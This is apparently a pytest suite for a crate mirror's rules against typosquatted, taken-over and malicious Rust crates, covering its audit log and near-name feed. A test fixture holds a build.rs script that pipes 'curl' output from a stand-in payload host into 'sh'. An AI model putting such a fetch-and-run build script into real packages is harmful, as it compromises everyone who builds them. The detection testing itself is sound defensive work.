"""The malicious-crate rule through the HTTP API: what cargo gets, what is recorded, the feed.

A small registry (six real crates, published long ago) plus crates published by each test:
look-alikes, a takeover release of an established crate, a new crate whose build script
downloads and runs something. The corpus is a short list written by each test.
"""

from __future__ import annotations

import json
import shlex
import xml.etree.ElementTree as ET
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from mirror.audit import read_events, read_near_names
from mirror.cli import main
from mirror.http.routes import HANDLERS
from mirror.index import index_path
from tests.fixtures.cargo_manifest import Dep
from tests.fixtures.registry import Registry
from tests.fixtures.upstream import FakeUpstream

CORPUS = ["serde", "serde_json", "itoa", "memchr", "rust_decimal", "tracing"]
DOWNLOAD_AND_RUN = b"""
use std::process::Command;
fn main() {
    let url = "http://payload.example.invalid/stage2";
    let _ = std::net::TcpStream::connect("127.0.0.1:9");
    Command::new("sh").arg("-c").arg(format!("curl -s {url} | sh")).status().ok();
}
"""


def ago(**delta: float) -> str:
    return (datetime.now(UTC) - timedelta(**delta)).strftime("%Y-%m-%dT%H:%M:%SZ")


def policy(tmp_path: Path, risk: str = "block", extra: str = "", allow: str = "[]") -> Path:
    (tmp_path / "corpus.txt").write_text("\n".join(CORPUS) + "\n")
    path = tmp_path / "policy.yaml"
    path.write_text(
        "version: 2\n"
        "rules:\n"
        f"  risk: {{mode: {risk}, corpus: corpus.txt, protect_top: {len(CORPUS)}}}\n"
        "  capabilities: {mode: warn, lock: caps.lock.yaml, first_seen: trust}\n"
        f"{extra}"
        f"allow: {allow}\n"
    )
    return path


def events(client: Any, cache: Path) -> list[dict[str, Any]]:
    client.app[HANDLERS].core.gate.audit.flush()
    return list(read_events(cache / "audit"))


@pytest.fixture
def mirror(
    mirror_client: Callable[..., Any], small_upstream: FakeUpstream, tmp_path: Path
) -> Callable[..., Any]:
    async def make(**overrides: Any) -> Any:
        if "policy" not in overrides:
            overrides["policy"] = policy(tmp_path)
        settings = {"cache_dir": tmp_path / "cache", **overrides}
        return await mirror_client(small_upstream, **settings)

    return make


async def test_new_look_alike_is_quarantined_with_its_evidence(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """cargo's 403 body names the evidence, when the hold lifts, and the approve command."""
    small_registry.add_crate("serde_jsno", "0.1.0", {}, pubtime=ago(hours=5))
    client = await mirror()
    resp = await client.get("/index/" + index_path("serde_jsno"))
    assert resp.status == 403
    body = await resp.text()
    assert len(body) <= 501  # 500 characters and a newline
    assert body.startswith("quarantined by crate-mirror policy: `serde_jsno` is quarantined")
    assert "looks like `serde_json` (adjacent characters swapped) +3" in body
    assert "Held until " in body
    assert 'approve it: crate-mirror approve serde_jsno@0.1.0 --reason "..." --lock ' in body
    assert "--cache-dir " in body
    download = await client.get("/api/v1/crates/serde_jsno/0.1.0/download")
    assert download.status == 403  # the .crate never reaches cargo either
    stops = [e for e in events(client, tmp_path / "cache") if e["rule"] == "risk"]
    assert {e["action"] for e in stops} == {"quarantine"}
    assert stops[0]["details"]["risk"]["meant"] == "serde_json"
    feed = list(read_near_names(tmp_path / "cache" / "audit"))
    assert feed and feed[0]["crate"] == "serde_jsno" and feed[0]["verdict"] == "quarantine"
    assert any(s["id"] == "typo" for s in feed[0]["evidence"])


async def test_real_crates_with_a_past_pass_and_the_feed_still_sees_look_alikes(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """An established look-alike (many old versions) is served; its near name is on record."""
    for i in range(12):
        small_registry.add_crate("itoas", f"0.{i}.0", {}, pubtime=ago(days=900 - 30 * i))
    client = await mirror()
    resp = await client.get("/index/" + index_path("itoas"))
    assert resp.status == 200
    assert (await client.get("/api/v1/crates/itoas/0.11.0/download")).status == 200
    client.app[HANDLERS].core.gate.audit.flush()
    feed = list(read_near_names(tmp_path / "cache" / "audit"))
    assert [(f["crate"], f["action"], f["protected"]) for f in feed] == [("itoas", "allow", "itoa")]
    assert {e["id"] for e in feed[0]["evidence"]} >= {"typo", "old_crate", "many_versions"}


async def test_build_script_that_downloads_and_runs_is_blocked(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """Not a look-alike at all: a new crate whose build script fetches and runs a payload."""
    small_registry.add_crate(
        "handy-widgets", "0.1.0", {"build.rs": DOWNLOAD_AND_RUN}, pubtime=ago(hours=2)
    )
    client = await mirror()
    resp = await client.get("/index/" + index_path("handy-widgets"))
    assert resp.status == 403
    body = await resp.text()
    assert body.startswith("blocked by crate-mirror policy: `handy-widgets` looks malicious")
    assert "build-time code opens network connections" in body
    blocked = [e for e in events(client, tmp_path / "cache") if e["rule"] == "risk"]
    assert blocked and blocked[0]["action"] == "block"
    ids = {s["id"] for s in blocked[0]["details"]["risk"]["signals"]}
    assert {"build_net", "download_execute", "new_crate"} <= ids
    # Judged before trust-on-first-use could record it as trusted.
    assert (
        not (tmp_path / "caps.lock.yaml").exists()
        or "handy-widgets" not in (tmp_path / "caps.lock.yaml").read_text()
    )


async def test_takeover_release_is_hidden_and_cargo_gets_the_previous_one(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """An established crate publishes a release that adds a fresh look-alike dependency
    (the 2026 `arrayref` attack): that version disappears from the index and its download
    is refused; older versions are served as before."""
    small_registry.add_crate("serde_jsno", "1.0.0", {}, pubtime=ago(hours=3))
    itoa = small_registry.versions("itoa")[-1]
    small_registry.add_crate(
        "itoa", "99.0.0", {}, deps=[Dep("serde_jsno", "^1")], pubtime=ago(hours=1)
    )
    client = await mirror()
    resp = await client.get("/index/" + index_path("itoa"))
    assert resp.status == 200
    served = [json.loads(line)["vers"] for line in (await resp.text()).splitlines()]
    assert "99.0.0" not in served and itoa in served
    download = await client.get("/api/v1/crates/itoa/99.0.0/download")
    assert download.status == 403
    text = await download.text()
    assert "adds dependency `serde_jsno`, a look-alike of `serde_json`" in text
    assert (await client.get(f"/api/v1/crates/itoa/{itoa}/download")).status == 200


async def test_warn_mode_serves_and_records_would_block(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """A dry run: the squat is served, the audit log says what would have happened."""
    small_registry.add_crate("serde_jsno", "0.1.0", {}, pubtime=ago(hours=5))
    client = await mirror(policy=policy(tmp_path, risk="warn"))
    assert (await client.get("/index/" + index_path("serde_jsno"))).status == 200
    warned = [e for e in events(client, tmp_path / "cache") if e["rule"] == "risk"]
    assert warned and warned[0]["action"] == "warn"
    assert warned[0]["details"]["would"] == "quarantine"
    feed = list(read_near_names(tmp_path / "cache" / "audit"))
    assert [(f["crate"], f.get("version"), f["action"], f["would"]) for f in feed] == [
        ("serde_jsno", None, "warn", "quarantine"),  # the crate, judged by its name and past
        ("serde_jsno", "0.1.0", "warn", "quarantine"),  # its version, once per index content
    ]


@pytest.mark.parametrize(
    ("rule", "publish"),
    [
        ("min_age", {"pubtime": "now"}),
        ("yanked", {"yanked": True}),
    ],
)
async def test_version_rule_warnings_are_on_the_record(
    mirror: Callable[..., Any],
    small_registry: Registry,
    tmp_path: Path,
    rule: str,
    publish: dict[str, Any],
) -> None:
    """`warn` versions of version rules are recorded as would-block (once per view)."""
    kwargs = dict(publish)
    if kwargs.get("pubtime") == "now":
        kwargs["pubtime"] = ago(minutes=5)
    else:
        kwargs["pubtime"] = ago(days=400)
    small_registry.add_crate("memchr", "99.0.0", {}, **kwargs)
    extra = "  min_age: {mode: warn, age: 72h}\n  yanked: {mode: warn}\n"
    client = await mirror(policy=policy(tmp_path, extra=extra))
    for _ in range(3):
        assert (await client.get("/index/" + index_path("memchr"))).status == 200
    warned = [
        e for e in events(client, tmp_path / "cache") if e["rule"] == rule and e["action"] == "warn"
    ]
    assert len(warned) == 1 and warned[0]["version"] == "99.0.0"
    assert warned[0]["details"]["would"] == "block"
    feed = [f for f in read_near_names(tmp_path / "cache" / "audit") if f["rule"] == rule]
    assert [(f["crate"], f["version"], f["action"], f["would"]) for f in feed] == [
        ("memchr", "99.0.0", "warn", "block")
    ]


async def test_capability_warnings_are_on_the_record(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """A locked crate's new version with a capability it never had: a would-block event."""
    lock = tmp_path / "caps.lock.yaml"
    lock.write_text(
        "version: 1\ncrates:\n  memchr:\n    - capabilities: []\n      approved_by: alice\n"
        '      approved_at: "2026-01-01T00:00:00Z"\n      reason: plain\n'
    )
    small_registry.add_crate(
        "memchr", "99.0.0", {"build.rs": DOWNLOAD_AND_RUN}, pubtime=ago(days=400)
    )
    client = await mirror()
    resp = await client.get("/api/v1/crates/memchr/99.0.0/download")
    assert resp.status == 200  # capabilities: warn
    warned = [e for e in events(client, tmp_path / "cache") if e["rule"] == "capabilities"]
    assert warned and warned[0]["action"] == "warn"
    feed = [f for f in read_near_names(tmp_path / "cache" / "audit") if f["rule"] == "capabilities"]
    assert feed and feed[0]["would"] == "block" and "build.rs" in feed[0]["reason"]


async def test_an_approval_lets_the_quarantined_crate_through(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    """The printed approve command works as printed: the crate is served afterwards."""
    small_registry.add_crate("serde_jsno", "0.1.0", {}, pubtime=ago(hours=5))
    client = await mirror()
    body = await (await client.get("/index/" + index_path("serde_jsno"))).text()
    command = shlex.split(body.split("approve it: ", 1)[1].split(" Request ")[0])
    assert command[:3] == ["crate-mirror", "approve", "serde_jsno@0.1.0"]
    command[command.index("--reason") + 1] = "reviewed: a fork we maintain"
    assert main(command[1:]) == 0
    client.app[HANDLERS].core.reloader.now()  # what the file watch does within 2 s
    resp = await client.get("/index/" + index_path("serde_jsno"))
    assert resp.status == 200
    approved = [e for e in events(client, tmp_path / "cache") if e["rule"] == "approved"]
    assert approved and approved[0]["details"]["overrides"] == "risk"


async def test_near_name_feed_json_and_atom(
    mirror: Callable[..., Any], small_registry: Registry, tmp_path: Path
) -> None:
    small_registry.add_crate("serde_jsno", "0.1.0", {}, pubtime=ago(hours=5))
    client = await mirror(near_name_feed="public")
    await client.get("/index/" + index_path("serde_jsno"))
    client.app[HANDLERS].core.gate.audit.flush()
    data = await (await client.get("/feed/near-names.json?limit=10")).json()
    assert data["entries"][0]["crate"] == "serde_jsno"
    atom = ET.fromstring(await (await client.get("/feed/near-names.atom")).read())
    assert atom.tag == "{http://www.w3.org/2005/Atom}feed"
    assert (await client.get("/feed/near-names.json?limit=0")).status == 400
    assert (await client.get("/feed/near-names.xml")).status == 404


async def test_feed_can_be_turned_off(mirror: Callable[..., Any]) -> None:
    client = await mirror(near_name_feed="off")
    assert (await client.get("/feed/near-names.json")).status == 404


def test_explain_shows_the_same_evidence(
    small_registry: Registry, small_upstream: FakeUpstream, tmp_path: Path, capsys: Any
) -> None:
    """`crate-mirror explain` judges like serving and prints every signal."""
    small_registry.add_crate("serde_jsno", "0.1.0", {}, pubtime=ago(hours=5))
    args = ["explain", "serde_jsno@0.1.0", "--policy", str(policy(tmp_path))]
    args += ["--cache-dir", str(tmp_path / "cache"), "--upstream", small_upstream.url + "/"]
    assert main(args) == 0
    out = capsys.readouterr().out
    assert "serde_jsno (the crate): quarantine by risk" in out
    assert "typo" in out and "looks like `serde_json`" in out
    assert "probably meant: serde_json" in out
    assert "to approve after review: crate-mirror approve serde_jsno@0.1.0" in out
    assert main([*args, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["crate_decision"]["verdict"] == "quarantine"
